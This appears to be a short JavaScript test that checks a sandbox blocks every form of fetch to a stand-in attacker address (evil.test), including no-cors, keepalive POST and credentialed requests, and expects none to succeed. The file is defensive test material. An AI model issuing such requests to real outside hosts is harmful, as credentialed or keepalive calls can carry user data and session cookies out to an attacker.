// Fetches an address of the attacker’s, in every way fetch has.
// never: /WENT/

for (const init of [{}, { mode: 'no-cors' }, { method: 'POST', body: 's', keepalive: true, mode: 'no-cors' }, { credentials: 'include' }]) try { await fetch('http://evil.test/x', init); console.log('WENT'); } catch (e) { console.log(e.name); }
try { await fetch(new Request('http://evil.test/r')); console.log('WENT'); } catch (e) { console.log(e.name); }
